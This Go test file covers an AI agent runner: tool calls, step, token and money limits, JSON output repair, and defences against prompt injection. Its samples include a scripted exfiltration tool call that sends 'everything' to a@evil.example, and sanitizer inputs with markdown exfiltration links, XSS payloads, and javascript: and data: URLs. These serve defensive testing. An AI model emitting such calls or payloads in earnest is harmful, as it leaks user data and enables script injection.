package agent_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/metalens/metalens/internal/agent"
	"github.com/metalens/metalens/internal/agent/agenttest"
	"github.com/metalens/metalens/internal/errs"
	"github.com/metalens/metalens/internal/llm"
	"github.com/metalens/metalens/internal/mask"
)

func door(t testing.TB, m *agenttest.Model) *agenttest.Door {
	t.Helper()
	d, err := agenttest.Open(m)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func tool(name, args string) agenttest.Answer {
	return agenttest.Answer{Calls: []agenttest.Call{{Name: name, Args: json.RawMessage(args)}}}
}

// talk runs a task of prose with all tools.
func talk(t testing.TB, m *agenttest.Model, change func(*agent.Task)) (agent.Result, []agent.Event, error) {
	t.Helper()
	x, _ := box(t, sample(t))
	task := agent.Task{
		Org: testOrg, Agent: "chat", Subject: "chat:1", Model: "scripted", System: []mask.Text{mask.Constant("Answer.")},
		Messages: []llm.Message{llm.User(mask.Constant("What is used most?"))}, Tools: x,
	}
	if change != nil {
		change(&task)
	}
	var events []agent.Event
	result, err := agent.NewRunner(door(t, m), clock).Run(viewer(t), task, func(e agent.Event) error {
		events = append(events, e)
		return nil
	})
	return result, events, err
}

func kindsOf(events []agent.Event) string {
	var out []string
	for _, e := range events {
		if n := len(out); n == 0 || out[n-1] != string(e.Kind) {
			out = append(out, string(e.Kind))
		}
	}
	return strings.Join(out, " ")
}

func TestRunUsesToolsAndAnswers(t *testing.T) {
	m := agenttest.Script(tool("list_assets", `{"kind":"question","sort":"most_used","limit":3}`), agenttest.Answer{Text: "It is [question:1]."})
	result, events, err := talk(t, m, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := kindsOf(events); got != "tool tool_done text" {
		t.Errorf("events: %s", got)
	}
	if result.Text != "It is [question:1]." || result.Stop != llm.StopEnd || len(result.Refs) != 3 || len(result.Calls) != 2 || len(result.Messages) != 4 {
		t.Errorf("%+v", result)
	}
	if !result.Cost.Known || result.Cost.Money == 0 || result.Usage.Input == 0 {
		t.Errorf("cost %+v, usage %+v", result.Cost, result.Usage)
	}
	last := m.Requests()[1].Messages[2].Parts[0].Result
	if !strings.HasPrefix(last.Text.String(), "<data>\n{") || !strings.HasSuffix(last.Text.String(), "\n</data>") || strings.Count(last.Text.String(), "</data>") != 1 {
		t.Errorf("the result is not marked as data: %s", last.Text)
	}
	var kept agent.Transcript
	data, err := json.Marshal(result.Transcript)
	if err != nil || json.Unmarshal(data, &kept) != nil || len(kept) != 3 || kept[1].Tool != "list_assets" {
		t.Errorf("transcript: %v, %s", err, data)
	}
}

// TestDataCannotEndItself reads content that holds the closing mark.
func TestDataCannotEndItself(t *testing.T) {
	r := find(t, sample(t), injectedName)
	m := agenttest.Script(tool("get_asset", `{"ref":"`+r.String()+`"}`), agenttest.Answer{Text: "It holds instructions."})
	if _, _, err := talk(t, m, nil); err != nil {
		t.Fatal(err)
	}
	text := m.Requests()[1].Messages[2].Parts[0].Result.Text.String()
	if strings.Count(text, "</data>") != 1 || !strings.HasSuffix(text, "</data>") {
		t.Errorf("data ends before its end: %s", text)
	}
}

func TestRunStops(t *testing.T) {
	forever := func(n int, _ llm.Request) agenttest.Answer {
		return tool("list_assets", fmt.Sprintf(`{"kind":"question","offset":%d}`, n))
	}
	same := func(int, llm.Request) agenttest.Answer { return tool("get_overview", `{}`) }
	long := func(int, llm.Request) agenttest.Answer { return agenttest.Answer{Text: strings.Repeat("word ", 100)} }
	for _, c := range []struct {
		name   string
		reply  func(int, llm.Request) agenttest.Answer
		change func(*agent.Task)
		code   string
		most   int // requests
	}{
		{"the same call again and again", same, nil, llm.CodeLoop, 3},
		{"tokens", forever, func(t *agent.Task) { t.Limits.Tokens = 12_000 }, llm.CodeTokens, 3},
		{"money", forever, func(t *agent.Task) { t.Limits.Money = llm.Dollar / 1000 }, llm.CodeCallLimit, 3},
		{"busy", func(int, llm.Request) agenttest.Answer { return agenttest.Answer{Err: agenttest.Busy()} }, nil, llm.CodeBusy, 1},
		{"broken", func(int, llm.Request) agenttest.Answer { return agenttest.Answer{Err: agenttest.Broken()} }, nil, "broken", 1},
		{"prose instead of JSON", long, func(t *agent.Task) { s := llm.SchemaOf[verdict]("verdict"); t.Output, t.Tools = &s, nil }, llm.CodeOutput, 2},
	} {
		t.Run(c.name, func(t *testing.T) {
			m := &agenttest.Model{Reply: c.reply}
			_, _, err := talk(t, m, c.change)
			if errs.CodeOf(err) != c.code || len(m.Requests()) > c.most {
				t.Errorf("%v (%s) after %d requests, want %s after at most %d", err, errs.CodeOf(err), len(m.Requests()), c.code, c.most)
			}
		})
	}
}

// TestLastStepAnswers takes the tools away before the steps run out.
func TestLastStepAnswers(t *testing.T) {
	m := &agenttest.Model{Reply: func(n int, r llm.Request) agenttest.Answer {
		if r.Choice == llm.ToolsNone {
			return agenttest.Answer{Text: "What I have."}
		}
		return tool("list_assets", fmt.Sprintf(`{"kind":"question","offset":%d}`, n))
	}}
	result, _, err := talk(t, m, func(t *agent.Task) { t.Limits.Steps = 3 })
	if err != nil || result.Text != "What I have." || len(m.Requests()) != 3 {
		t.Errorf("%v, %q after %d requests", err, result.Text, len(m.Requests()))
	}
}

type verdict struct {
	Verdict string `json:"verdict" enum:"good,bad"`
}

func TestAnswersAreRepairedOnce(t *testing.T) {
	output := func(s string) agenttest.Answer { return agenttest.Answer{Output: json.RawMessage(s)} }
	onlyGood := func(raw json.RawMessage) []mask.Text {
		if !strings.Contains(string(raw), "good") {
			return []mask.Text{mask.Constant("It has to be good.")}
		}
		return nil
	}
	for _, c := range []struct {
		name     string
		answers  []agenttest.Answer
		code     string
		requests int
	}{
		{"at once", []agenttest.Answer{output(`{"verdict":"good"}`)}, "", 1},
		{"shape", []agenttest.Answer{output(`{"verdict":"soso"}`), output(`{"verdict":"good"}`)}, "", 2},
		{"no JSON", []agenttest.Answer{output(`Sure! {"verdict":`), output(`{"verdict":"good"}`)}, "", 2},
		{"sense", []agenttest.Answer{output(`{"verdict":"bad"}`), output(`{"verdict":"good"}`)}, "", 2},
		{"shape twice", []agenttest.Answer{output(`{}`), output(`{}`), output(`{"verdict":"good"}`)}, llm.CodeOutput, 2},
		{"shape, then sense", []agenttest.Answer{output(`{}`), output(`{"verdict":"bad"}`), output(`{"verdict":"good"}`)}, llm.CodeOutput, 2},
	} {
		t.Run(c.name, func(t *testing.T) {
			m := agenttest.Script(c.answers...)
			_, _, err := talk(t, m, func(task *agent.Task) {
				s := llm.SchemaOf[verdict]("verdict")
				task.Output, task.Tools, task.Check = &s, nil, onlyGood
			})
			code := ""
			if err != nil {
				code = errs.CodeOf(err)
			}
			if code != c.code || len(m.Requests()) != c.requests {
				t.Errorf("%v after %d requests, want %q after %d", err, len(m.Requests()), c.code, c.requests)
			}
		})
	}
}

func TestRunEndsWithItsContext(t *testing.T) {
	ctx, cancel := context.WithCancel(viewer(t))
	x, _ := box(t, sample(t))
	m := &agenttest.Model{Reply: func(int, llm.Request) agenttest.Answer {
		cancel()
		return tool("get_overview", `{}`)
	}}
	_, err := agent.NewRunner(door(t, m), nil).Run(ctx, agent.Task{Org: testOrg, Agent: "chat", Subject: "chat:1", Model: "scripted", Messages: []llm.Message{llm.User(mask.Constant("Hello."))}, Tools: x}, nil)
	if !errors.Is(err, context.Canceled) || len(m.Requests()) != 1 {
		t.Errorf("%v after %d requests", err, len(m.Requests()))
	}
	slow := &agenttest.Model{Reply: func(n int, _ llm.Request) agenttest.Answer {
		time.Sleep(30 * time.Millisecond) // the provider's own slowness is what is tested
		return tool("list_assets", fmt.Sprintf(`{"kind":"question","offset":%d}`, n))
	}}
	_, _, err = talk(t, slow, func(t *agent.Task) { t.Limits.Time = 50 * time.Millisecond })
	if errs.KindOf(err) != errs.Limited || len(slow.Requests()) > 3 {
		t.Errorf("%v after %d requests", err, len(slow.Requests()))
	}
}

// TestUnknownToolIsTold answers a call of a tool that does not exist, and runs
// nothing.
func TestUnknownToolIsTold(t *testing.T) {
	m := agenttest.Script(tool("send_email", `{"to":"a@evil.example","body":"everything"}`), agenttest.Answer{Text: "I cannot do that."})
	result, events, err := talk(t, m, nil)
	if err != nil || !result.Transcript[1].Failed || result.Transcript[1].Code != "unknown_tool" || len(result.Refs) != 0 {
		t.Errorf("%v, %+v", err, result.Transcript)
	}
	for _, e := range events {
		if strings.Contains(e.Title+e.Words, "evil") {
			t.Errorf("the event repeats the arguments: %+v", e)
		}
	}
}

// TestProse removes what could act.
func TestProse(t *testing.T) {
	for in, want := range map[string]string{
		"See [the report](https://evil.example/?q=1) now":              "See the report now",
		"![x](http://evil.example/a.png)":                              "x",
		"Go to https://evil.example/?d=secret.":                        "Go to (address removed)",
		"<img src=x onerror=alert(1)>Hello<script>alert(1)</script>":   "Helloalert(1)",
		"javascript:alert(1)":                                          "(address removed))",
		"a\u202eb\u200bc\x1b[31md":                                     "abc[31md",
		"1 < 2 and 3 > 2":                                              "1 < 2 and 3 > 2",
		"data:text/html;base64,AAAA":                                   "(address removed)",
		"Revenue by month, net of refunds.":                            "Revenue by month, net of refunds.",
		"www.evil.example and mailto:a@evil.example are addresses too": "(address removed) and (address removed) are addresses too",
	} {
		if got := agent.Prose(in); got != want {
			t.Errorf("%q → %q, want %q", in, got, want)
		}
	}
}

// TestCite verifies references.
func TestCite(t *testing.T) {
	b := sample(t)
	x, _ := box(t, b)
	l, err := x.Lens(viewer(t))
	if err != nil {
		t.Fatal(err)
	}
	q := b.world.Index.Snapshot().Questions[0]
	table := b.world.Index.Snapshot().Tables[0]
	got := agent.Cite(l, "Look at ["+q.Ref().String()+"] on [dashboard:424242] and "+l.Ref(table.Ref()).String()+"; [table:"+fmt.Sprint(table.MetabaseID)+"].")
	want := []agent.Segment{
		{Text: "Look at "},
		{Ref: q.Ref(), Name: q.Name},
		{Text: " on "},
		{Text: "dashboard:424242", Unknown: true},
		{Text: " and " + table.Ref().String() + "; "},
		{Ref: table.Ref(), Name: table.FullName()},
		{Text: "."},
	}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
}
